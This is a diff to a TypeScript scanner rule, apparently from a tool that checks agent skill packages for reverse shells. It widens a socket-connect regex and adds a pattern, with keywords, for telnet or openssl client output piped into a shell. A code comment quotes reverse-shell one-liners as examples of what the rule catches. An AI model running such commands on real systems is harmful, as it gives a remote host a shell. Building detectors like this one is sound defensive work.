@@ -10,7 +10,9 @@ import { CODE, hitsOf } from "./common.js";
 
 /** Calls and paths that connect a socket out, by language. */
 const CONNECT =
-  /\bfsockopen\s*\(|\bstream_socket_client\s*\(|\bsocket_connect\s*\(|\bIO::Socket::INET\b|\bTCPSocket\.(?:new|open)\b|\bSocket\.tcp\s*\(|\bnet\.Dial(?:TCP|Timeout)?\s*\(|\bTcpStream::connect\b|\bnew\s+Socket\s*\(|\bnew\s+(?:System\.Net\.Sockets\.)?TcpClient\s*\(|\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(|\/inet6?\/tcp\/\d+\/|\bsocket\.connect\s*\(|\bsocket\.tcp\s*\(|\bnet\.(?:connect|createConnection)\s*\(|\bconnect\s*\(\s*(?:SOCK|\$sock|S)\b|\bDeno\.connect\s*\(|\bBun\.connect\s*\(/g;
+  /\bfsockopen\s*\(|\bstream_socket_client\s*\(|\bsocket_connect\s*\(|\bIO::Socket::INET\b|\bTCPSocket\.(?:new|open)\b|\bSocket\.tcp\s*\(|\bnet\.Dial(?:TCP|Timeout)?\s*\(|\bTcpStream::connect\b|\bnew\s+Socket\s*\(|\bnew\s+(?:System\.Net\.Sockets\.)?TcpClient\s*\(|\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(|\/inet6?\/tcp\/\d+\/|\bsocket\.connect\s*\(|\bsocket\.tcp\s*\(|\bnet\.(?:connect|createConnection)\s*\(|\bconnect\s*\(\s*(?:SOCK|\$sock|S)\b|\bDeno\.connect\s*\(|\bBun\.connect\s*\(|\bNet\.Sockets\.T[Cc][Pp]Client\b|\bwebsocket\.create_connection\s*\(|\bwebsockets\.connect\s*\(|\bnew\s+WebSocket\s*\(/g;
+/** A client whose output is piped into a shell: `telnet h 80 | /bin/sh | telnet h 81`, `openssl s_client -connect h:443 | sh`. */
+const PIPED_CLIENT = /\b(?:telnet\s+[\w.$-]+\s+\d+|openssl\s+s_client\b[^\n|]{0,80}-connect\s+\S+)[^\n|]{0,40}\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\b/;
 /** A shell program named as what to start (the interactive shell a reverse shell hands over). */
 const SHELL_PROGRAM = /["'`](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|c)?sh(?:\s+-i)?["'`\s]|["'`](?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)["'`]|\bpty\.spawn\b/;
 /** A runner of what the code received (a variable, not a fixed command). */
@@ -24,6 +26,8 @@ function socketShell(segment: Segment): Hit[] {
   if (segment.fenced) return [];
   const text = segment.text;
   const hits: Hit[] = [];
+  const piped = PIPED_CLIENT.exec(text);
+  if (piped) return [{ index: piped.index, length: piped[0].length }];
   for (const m of text.matchAll(CONNECT)) {
     const around = text.slice(m.index, m.index + WINDOW);
     // gawk's network files: a command read from the socket run as a coprocess (`c |& getline`) or by system().
@@ -53,7 +57,7 @@ export const socketShellRules: Rule[] = [
     fix: "Remove it. A skill has no reason to give a remote host a shell.",
     fileKinds: CODE,
     context: "payload",
-    keywords: ["fsockopen", "stream_socket_client", "socket", "tcpsocket", "dial", "tcpstream", "tcpclient", "connect", "/inet/tcp/", "/inet6/tcp/"],
+    keywords: ["fsockopen", "stream_socket_client", "socket", "tcpsocket", "dial", "tcpstream", "tcpclient", "connect", "/inet/tcp/", "/inet6/tcp/", "telnet", "s_client"],
     reach: WINDOW + 200,
     match: socketShell,
     examples: {
